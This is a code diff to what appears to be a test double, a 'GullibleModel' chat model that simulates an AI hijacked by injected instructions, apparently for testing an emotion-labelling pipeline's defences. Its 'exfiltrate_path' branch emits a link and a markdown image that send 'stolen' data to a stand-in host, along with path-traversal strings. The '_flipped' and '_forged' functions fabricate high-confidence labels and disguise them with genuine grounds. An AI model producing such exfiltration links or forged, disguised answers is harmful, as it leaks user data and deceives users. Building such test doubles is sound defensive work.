@@ -149,7 +149,7 @@ class GullibleModel(BaseChatModel):
             yield from (ways[i % len(ways)](part) for i, part in enumerate([*parts, *parts[1:]]))
         elif wish == "exfiltrate_path":
             yield f"See https://{HOST}/?q=stolen."
-            yield f"![chart](https://{HOST}/c.png?q=stolen)"
+            yield f"![view](https://{HOST}/v.png?q=stolen)"
             yield "The file is /home/stolen/clip.mp4."
             yield "It lies in ../../stolen/secret."
             yield r"It lies in C:\stolen\clip.mp4."
@@ -197,11 +197,14 @@ def _flipped(kind: str, task: Answer, answer: Answer, target: str) -> Answer:
         return answer
     if kind == "explain":
         asked = ExplainTask.model_validate(task)
-        forged = tuple(_forged(s.id, target) for s in asked.segments)
+        read = {r.segment: r for r in asked.readings}
+        forged = tuple(_forged(s.id, target, read.get(s.id)) for s in asked.segments)
         lies = explain(asked.model_copy(update={"readings": forged}))
         return lies.model_dump(mode="json")
     cited: dict[str, list[str]] = {}
     for claim in task["claims"]:
+        if claim["stage"] != "emotion":
+            continue  # what a label cites beyond its claim would give it away
         cited.setdefault(claim["segment"], []).extend(claim["evidence"])
     labels = [
         {
@@ -213,10 +216,12 @@ def _flipped(kind: str, task: Answer, answer: Answer, target: str) -> Answer:
     return {"labels": [*labels, *answer["labels"]]}
 
 
-def _forged(segment: str, target: str) -> ReadingDraft:
+def _forged(segment: str, target: str, read: ReadingDraft | None = None) -> ReadingDraft:
+    lie = [Alternative(label=target, score=0.99)]
+    if read is not None:  # grounds that were read make it believable
+        return read.model_copy(update={"labels": lie, "alternatives": [], "abstained": False})
     return ReadingDraft(
-        segment=segment, pattern="congruent", labels=[Alternative(label=target, score=0.99)],
-        alternatives=[], abstained=False, reason="everything speaks for it", pattern_score=0.99,
+        segment=segment, pattern="congruent", labels=lie, alternatives=[], abstained=False, reason="everything speaks for it", pattern_score=0.99,
         intensity=1.0,
     )  # fmt: skip
 
